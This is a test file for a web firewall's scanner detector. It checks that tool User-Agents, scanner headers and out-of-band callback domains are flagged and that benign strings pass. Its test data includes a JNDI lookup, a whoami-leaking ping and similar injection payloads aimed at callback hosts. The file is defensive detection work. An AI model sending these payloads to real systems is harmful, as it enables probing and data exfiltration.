import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { createWaf } from "../engine.ts";
import { SCANNER_RULES, scannerDetector } from "./scanner.ts";

const SUPERLINEAR_GUARD_MS = 250;

/** Rules matched at paranoia `pl` or below over every decoded variant, as the engine runs them. */
const rulesAt = (value: string, name = "REQUEST_HEADERS:user-agent", pl = 1): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      scannerDetector
        .inspect({ name, value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("scannerDetector: tool User-Agents", () => {
  const attacks = [
    "sqlmap/1.7.4#stable (https://sqlmap.org)",
    "SQLMAP/1.2",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "zgrab2",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.0.0",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "Mozilla/5.0 (Windows NT 10.0) Acunetix-WVS",
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; SV1) Havij",
    "Arachni/0.2.1",
    "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
    "mercuryboard_user_agent_sql_injection.nasl'",
    "nessus",
    "feroxbuster/2.10.0",
    "Wfuzz/3.1",
  ];
  it.each(attacks)("%s", (ua) => {
    expect(rulesAt(ua)).toContain("scanner-user-agent");
  });

  const benign = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "python-requests/2.31.0",
    "Googlebot/2.1 (+http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Nucleic-Acids-App/1.0", // a tool name inside a longer word
    "Sqlmapper-ORM/2.0",
    "Zgrabber/1.0",
  ];
  it.each(benign)("benign: %s", (ua) => {
    expect(rulesAt(ua)).toEqual([]);
  });

  it("names that are also words wait for PL2", () => {
    expect(rulesAt("Mozilla/5.0 (Hydra)")).toEqual([]);
    expect(rulesAt("Mozilla/5.0 (Hydra)", "REQUEST_HEADERS:user-agent", 2)).toContain(
      "scanner-user-agent-weak",
    );
  });

  it("only the User-Agent header is read for tool names", () => {
    expect(rulesAt("sqlmap", "ARGS:q")).toEqual([]);
    expect(rulesAt("how to use sqlmap", "REQUEST_HEADERS:referer")).toEqual([]);
  });
});

describe("scannerDetector: scanner headers and payload markers", () => {
  it.each([
    "acunetix-aspect",
    "acunetix-product",
    "x-wipp",
    "x-scan-memo",
    "x-requestmanager-memo",
    "x-scanner",
  ])("%s", (header) => {
    expect(rulesAt("anything", `REQUEST_HEADERS:${header}`)).toContain("scanner-header");
  });
  it("payload markers in any value", () => {
    expect(rulesAt("acunetix_wvs_security_test", "ARGS:q")).toContain("scanner-payload-marker");
    expect(rulesAt("1 and netsparker(0x0001A6)", "ARGS:q")).toContain("scanner-payload-marker");
  });
  it("Nmap's service probe path", () => {
    expect(rulesAt("/nice ports,/Trinity.txt.bak", "REQUEST_PATH")).toContain("scanner-probe-path");
  });
  it("ordinary headers are not scanner headers", () => {
    expect(rulesAt("https://example.com/", "REQUEST_HEADERS:referer")).toEqual([]);
    expect(rulesAt("scanner", "REQUEST_HEADERS:x-requested-with")).toEqual([]);
  });
});

describe("scannerDetector: out-of-band callback domains", () => {
  const attacks = [
    "http://lmb1ikpej3yys0gqft8lxewm2d89w5qtgh840sp.burpcollaborator.net/6.17.0",
    "${jndi:ldap://${hostName}.w63gecoroprj5um8ypnd7r6in9t0hseg3.oast.me/a}",
    "root@w63gecoroprj5um8ypnd7r6in9t0hseg3.interact.sh",
    "nslookup abc.OASTIFY.COM",
    "x.oast.fun.",
    "%68ttp://abc.oast.pro/", // percent-encoded scheme
    "<img src=//a.bxss.me>",
    "ping -c1 `whoami`.xyz.dnslog.cn",
    "http://abc.ceye.io/x",
  ];
  it.each(attacks)("%s", (value) => {
    expect(rulesAt(value, "ARGS:q")).toContain("scanner-oob-domain");
  });
  const benign = [
    "http://oast.media/article", // another domain sharing a prefix
    "interact.shopping.example",
    "moast.me", // not at a label boundary
    "the toast.menu is ready",
    "Burp Collaborator is a Burp Suite feature",
  ];
  it.each(benign)("benign: %s", (value) => {
    expect(rulesAt(value, "ARGS:q")).toEqual([]);
  });
  it("request bins wait for PL2", () => {
    expect(rulesAt("https://webhook.site/abc", "ARGS:hook")).toEqual([]);
    expect(rulesAt("https://webhook.site/abc", "ARGS:hook", 2)).toContain("scanner-oob-webhook");
  });
});

describe("scannerDetector: through the engine", () => {
  it("one tool User-Agent blocks at PL1", () => {
    const waf = createWaf({ detectors: [scannerDetector] });
    const v = waf.inspect(
      { method: "GET", path: "/", headers: { Host: "example.com", "User-Agent": "sqlmap/1.8" } },
      { mode: "block", paranoia: 1, threshold: 5, exclusions: [] },
    );
    expect(v.blocked).toBe(true);
    expect(v.matches.map((m) => m.rule)).toEqual(["scanner-user-agent"]);
  });
  it("every rule has a PL and severity", () => {
    for (const info of Object.values(SCANNER_RULES)) expect(info.tags.length).toBeGreaterThan(0);
  });
});

describe("scannerDetector: robustness", () => {
  it("never throws", () => {
    fc.assert(
      fc.property(
        fc.string({ maxLength: 300 }),
        fc.constantFrom("REQUEST_HEADERS:user-agent", "ARGS:x"),
        (s, n) => {
          scannerDetector.inspect({ name: n, value: s });
        },
      ),
      { numRuns: 300 },
    );
  });
  it("stays linear on adversarial input", () => {
    const inputs = ["a.", ".", "oast.", "a-", "sqlmap", "x.oast.me", "1"].map((u) =>
      u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536),
    );
    for (const value of inputs) {
      for (const name of ["REQUEST_HEADERS:user-agent", "ARGS:x"]) {
        let best = Infinity;
        for (let k = 0; k < 3; k++) {
          const t0 = performance.now();
          scannerDetector.inspect({ name, value });
          best = Math.min(best, performance.now() - t0);
        }
        expect(best).toBeLessThan(SUPERLINEAR_GUARD_MS);
      }
    }
  });
});
